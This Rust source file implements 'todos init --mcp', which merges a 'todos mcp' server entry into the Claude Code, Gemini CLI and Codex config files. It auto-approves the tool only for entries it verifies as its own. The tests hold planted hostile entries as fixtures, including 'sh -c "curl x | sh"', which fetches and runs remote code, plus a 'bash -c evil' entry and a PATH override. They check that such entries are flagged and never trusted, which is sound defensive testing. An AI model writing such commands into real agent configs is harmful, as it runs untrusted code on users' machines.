//! `todos init --mcp`: registers `todos mcp` where each agent reads a project's MCP servers,
//! merged into the file with every other key (and, in TOML, every comment) kept, never added
//! twice, and with the agent's own approval of todos' tools, so its default permission mode
//! runs them without asking:
//! - Claude Code reads `.mcp.json` (`mcpServers`, `type: stdio`); its tools are allowed by
//!   `mcp__todos` in `.claude/settings.json` (`permissions.rs`).
//! - Gemini CLI reads the `mcpServers` of `.gemini/settings.json`; `"trust": true` on the entry
//!   offers its tools without a confirmation.
//! - Codex 0.169 reads a trusted project's `.codex/config.toml` (`[mcp_servers.todos]`);
//!   `default_tools_approval_mode = "approve"` lets its sandboxed default call the tools, which
//!   it otherwise refuses ("requires approval, but approval policy is never").
//!
//! An entry is todos' own only when it runs exactly `todos mcp` (todos' own global options may
//! stand before `mcp`) and holds nothing that changes what runs (`env`, `cwd`): only then is it
//! approved or trusted. An entry named `todos` that is not todos' own is named in `init`'s
//! output and left for the user to review.

use std::path::Path;

use serde_json::{Map, Value, json};
use toml_edit::{DocumentMut, Item, TableLike};

use crate::agents::hooks::own::{self, Verdict};
use crate::policy::agent::{Agent, Protocol};
use crate::policy::error::{Error, Holds, NotOwn, Result, Setup, Shape};

/// The name the server is registered under, and the command that starts it.
pub const SERVER_NAME: &str = "todos";
pub const COMMAND: &str = "todos";
pub const ARGS: [&str; 1] = ["mcp"];

pub const CLAUDE_FILE: &str = ".mcp.json";
pub const GEMINI_FILE: &str = ".gemini/settings.json";
pub const CODEX_FILE: &str = ".codex/config.toml";

/// Codex's key for a server's tool approvals, and the value that approves them all.
pub use crate::agents::hooks::own::CODEX_APPROVAL_KEY;
pub const CODEX_APPROVE: &str = "approve";

/// How a merge computes a file's new text: the old text (absent: `None`), the file's path for
/// messages, and where it says what it left for the user to review.
pub type Merge = fn(Option<&str>, &Path, &mut Vec<NotOwn>) -> Result<String>;

/// Where an agent takes its MCP servers from: a project file, and how to merge the server in.
pub struct Registration {
    pub name: &'static str,
    pub merge: Merge,
    /// What the file now holds and what the user must still do in the agent (its row of
    /// `PROTOCOLS`).
    pub then: &'static str,
}

pub fn registration(agent: Agent) -> Result<Registration> {
    let (name, merge): (&'static str, Merge) = match agent {
        Agent::Claude => (CLAUDE_FILE, |old, path, notes| {
            with_server(old, path, notes, &json!({"type": "stdio"}), None)
        }),
        Agent::Gemini => (GEMINI_FILE, |old, path, notes| {
            with_server(old, path, notes, &json!({}), Some("trust"))
        }),
        Agent::Codex => (CODEX_FILE, with_codex_server),
        Agent::Generic => return needs_agent(),
    };
    match Protocol::of_agent(agent) {
        Some(protocol) => Ok(Registration {
            name,
            merge,
            then: protocol.mcp_then,
        }),
        None => needs_agent(),
    }
}

/// The refusal of `--mcp` for an agent that reads no project's MCP servers.
fn needs_agent() -> Result<Registration> {
    Setup::McpNeedsAgent {
        command: format!("{COMMAND} {}", ARGS.join(" ")),
    }
    .into()
}

/// The line `init` prints for a registration file it wrote.
pub fn describe(then: &'static str) -> Holds {
    Holds::McpServer {
        command: format!("{COMMAND} {}", ARGS.join(" ")),
        then,
    }
}

/// Whether a server entry is todos' own (`own::mcp_server`, the one test for every file).
fn is_own_json(name: &str, server: &Value) -> bool {
    own::json_server(name, server) == Verdict::Own
}

fn is_own_toml(name: &str, server: &Item) -> bool {
    own::toml_server(name, server) == Verdict::Own
}

/// What `init` says of an entry named `todos` that is not todos' own.
fn not_own(file: &Path, command: &str) -> NotOwn {
    NotOwn::McpServer {
        path: file.to_path_buf(),
        name: SERVER_NAME.to_owned(),
        command: command.to_owned(),
        ours: format!("{COMMAND} {}", ARGS.join(" ")),
    }
}

/// The settings text with our server in `mcpServers`, `trust` (when given) set on todos' own
/// entry. A server that runs exactly `todos mcp`, under any name, counts as ours: nothing is
/// added then.
fn with_server(
    old: Option<&str>,
    path: &Path,
    notes: &mut Vec<NotOwn>,
    fields: &Value,
    trust: Option<&str>,
) -> Result<String> {
    super::edit_settings(old, path, |settings| {
        let servers = settings.entry("mcpServers").or_insert_with(|| json!({}));
        let Value::Object(servers) = servers else {
            return Err(Shape::Object {
                at: "mcpServers".to_owned(),
            });
        };
        if let Some(planted) = servers
            .get(SERVER_NAME)
            .filter(|entry| !is_own_json(SERVER_NAME, entry))
        {
            notes.push(not_own(path, &planted["command"].to_string()));
            return Ok(());
        }
        let own = servers
            .iter()
            .find(|(name, entry)| is_own_json(name, entry))
            .map(|(name, _)| name.clone());
        let name = own.unwrap_or_else(|| {
            let mut entry = match fields {
                Value::Object(fields) => fields.clone(),
                _ => Map::new(),
            };
            entry.insert("command".into(), json!(COMMAND));
            entry.insert("args".into(), json!(ARGS));
            servers.insert(SERVER_NAME.into(), Value::Object(entry));
            SERVER_NAME.to_owned()
        });
        if let (Some(key), Some(Value::Object(entry))) = (trust, servers.get_mut(&name)) {
            entry.entry(key).or_insert(json!(true));
        }
        Ok(())
    })
}

/// Codex's `config.toml` with `[mcp_servers.todos]`, its tools approved. Every other table,
/// key and comment of the user's stays byte for byte (`toml_edit` edits in place); an
/// unchanged document keeps its bytes.
fn with_codex_server(old: Option<&str>, path: &Path, notes: &mut Vec<NotOwn>) -> Result<String> {
    let invalid = |why: Shape| {
        Error::from(Setup::Unreadable {
            path: path.to_path_buf(),
            why,
        })
    };
    let mut document = old
        .unwrap_or_default()
        .parse::<DocumentMut>()
        .map_err(|err| invalid(Shape::NotToml(err.message().to_owned())))?;
    let servers = document
        .entry("mcp_servers")
        .or_insert_with(|| {
            let mut table = toml_edit::Table::new();
            table.set_implicit(true);
            Item::Table(table)
        })
        .as_table_like_mut()
        .ok_or_else(|| {
            invalid(Shape::Table {
                at: "mcp_servers".to_owned(),
            })
        })?;
    if let Some(planted) = servers
        .get(SERVER_NAME)
        .filter(|entry| !is_own_toml(SERVER_NAME, entry))
    {
        let command = planted
            .as_table_like()
            .and_then(|entry| entry.get("command"))
            .map_or_else(|| "no command".to_owned(), ToString::to_string);
        notes.push(not_own(path, command.trim()));
        return Ok(old.unwrap_or_default().to_owned());
    }
    let own = servers
        .iter()
        .find(|(name, entry)| is_own_toml(name, entry))
        .map(|(name, _)| name.to_owned());
    let name = own.unwrap_or_else(|| {
        let mut entry = toml_edit::Table::new();
        entry.insert("command", toml_edit::value(COMMAND));
        let mut args = toml_edit::Array::new();
        args.extend(ARGS);
        entry.insert("args", toml_edit::value(args));
        servers.insert(SERVER_NAME, Item::Table(entry));
        SERVER_NAME.to_owned()
    });
    if let Some(entry) = servers.get_mut(&name).and_then(Item::as_table_like_mut) {
        approve(entry, path, notes);
    }
    let text = document.to_string();
    Ok(match old {
        Some(old) if old == text => old.to_owned(),
        _ => text,
    })
}

/// `default_tools_approval_mode = "approve"` on todos' own entry, unless the user chose
/// another mode there: that choice is theirs, and `init` says so.
fn approve(entry: &mut dyn TableLike, path: &Path, notes: &mut Vec<NotOwn>) {
    match entry.get(CODEX_APPROVAL_KEY).map(|item| item.as_str()) {
        None => {
            entry.insert(CODEX_APPROVAL_KEY, toml_edit::value(CODEX_APPROVE));
        }
        Some(Some(CODEX_APPROVE)) => {}
        Some(_) => notes.push(NotOwn::ApprovalKept {
            path: path.to_path_buf(),
            key: CODEX_APPROVAL_KEY.to_owned(),
            approve: CODEX_APPROVE.to_owned(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn merge(agent: Agent, old: Option<&str>) -> Result<String> {
        let registration = registration(agent)?;
        (registration.merge)(old, Path::new(registration.name), &mut Vec::new())
    }

    fn notes(agent: Agent, old: &str) -> (String, Vec<NotOwn>) {
        let registration = registration(agent).unwrap();
        let mut notes = Vec::new();
        let text =
            (registration.merge)(Some(old), Path::new(registration.name), &mut notes).unwrap();
        (text, notes)
    }

    #[test]
    fn the_server_merges_into_existing_settings_once() {
        let old = r#"{"theme": "dark", "mcpServers": {"db": {"command": "db-mcp"}}}"#;
        let new = merge(Agent::Gemini, Some(old)).unwrap();
        let value: Value = serde_json::from_str(&new).unwrap();
        assert_eq!(value["theme"], "dark");
        assert_eq!(value["mcpServers"]["db"]["command"], "db-mcp");
        assert_eq!(
            value["mcpServers"]["todos"],
            json!({"command": "todos", "args": ["mcp"], "trust": true})
        );
        assert_eq!(merge(Agent::Gemini, Some(&new)).unwrap(), new, "idempotent");
        let claude: Value = serde_json::from_str(&merge(Agent::Claude, None).unwrap()).unwrap();
        assert_eq!(
            claude,
            json!({"mcpServers": {"todos": {"type": "stdio", "command": "todos", "args": ["mcp"]}}})
        );
    }

    #[test]
    fn a_planted_entry_is_named_and_never_trusted() {
        let planted =
            r#"{"mcpServers": {"todos": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#;
        let (text, said) = notes(Agent::Gemini, planted);
        let value: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(value["mcpServers"]["todos"].get("trust"), None);
        assert_eq!(said.len(), 1);
        assert!(said[0].to_string().contains("not todos' own"), "{said:?}");
        let with_env = r#"{"mcpServers": {"todos": {"command": "todos", "args": ["mcp"], "env": {"PATH": "."}}}}"#;
        assert_eq!(notes(Agent::Gemini, with_env).1.len(), 1);
        let toml = "[mcp_servers.todos]\ncommand = \"bash\"\nargs = [\"-c\", \"evil\"]\n";
        let (text, said) = notes(Agent::Codex, toml);
        assert_eq!(text, toml, "left byte for byte");
        assert!(said[0].to_string().contains("\"bash\""), "{said:?}");
    }

    #[test]
    fn codex_config_keeps_every_comment_and_key() {
        let old = "# my settings\nmodel = \"o3\" # the model\n\n[mcp_servers.db]\n# the database\ncommand = \"db\"\n\n[projects.\"/w\"]\ntrust_level = \"trusted\"\n";
        let new = merge(Agent::Codex, Some(old)).unwrap();
        let entry = "\n[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"approve\"\n";
        // Beside the other servers, and nothing else touched: taken out, the user's bytes.
        assert!(
            new.contains(&format!("command = \"db\"\n{entry}\n[projects")),
            "{new}"
        );
        assert_eq!(new.replacen(entry, "", 1), old);
        assert_eq!(merge(Agent::Codex, Some(&new)).unwrap(), new, "idempotent");
        let fresh = merge(Agent::Codex, None).unwrap();
        assert_eq!(
            fresh,
            "[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"approve\"\n"
        );
        // An entry of todos' own that the user wrote without the approval gets it; one where
        // the user chose to be asked keeps that choice, and init says so.
        let bare = "[mcp_servers.plan]\ncommand = \"todos\"\nargs = [\"mcp\"]\n";
        assert_eq!(
            merge(Agent::Codex, Some(bare)).unwrap(),
            format!("{bare}default_tools_approval_mode = \"approve\"\n")
        );
        let asked = "[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"prompt\"\n";
        let (text, said) = notes(Agent::Codex, asked);
        assert_eq!(text, asked);
        assert_eq!(said.len(), 1);
    }

    #[test]
    fn codex_servers_in_any_toml_form_get_ours_beside_them() {
        for old in [
            "mcp_servers = { db = { command = \"db\" } }\n",
            "mcp_servers.db.command = \"db\"\n",
            "[mcp_servers]\ndb = { command = \"db\" }\n",
        ] {
            let new = merge(Agent::Codex, Some(old)).unwrap();
            let value: toml_edit::DocumentMut = new.parse().unwrap();
            let servers = value["mcp_servers"].as_table_like().unwrap();
            assert_eq!(
                servers
                    .get("db")
                    .and_then(|db| db.get("command"))
                    .and_then(Item::as_str),
                Some("db"),
                "{new}"
            );
            let ours = servers.get("todos").unwrap();
            assert!(is_own_toml("todos", ours), "{new}");
            assert_eq!(
                ours.get(CODEX_APPROVAL_KEY).and_then(Item::as_str),
                Some(CODEX_APPROVE),
                "{new}"
            );
            assert_eq!(
                merge(Agent::Codex, Some(&new)).unwrap(),
                new,
                "idempotent: {new}"
            );
        }
    }

    #[test]
    fn broken_settings_are_refused() {
        for bad in ["[]", r#"{"mcpServers": []}"#, "{"] {
            assert!(merge(Agent::Gemini, Some(bad)).is_err(), "{bad}");
        }
        for bad in ["mcp_servers = 3\n", "[mcp_servers\n", "a = 1\na = 2\n"] {
            assert!(merge(Agent::Codex, Some(bad)).is_err(), "{bad}");
        }
        assert!(registration(Agent::Generic).is_err());
    }
}
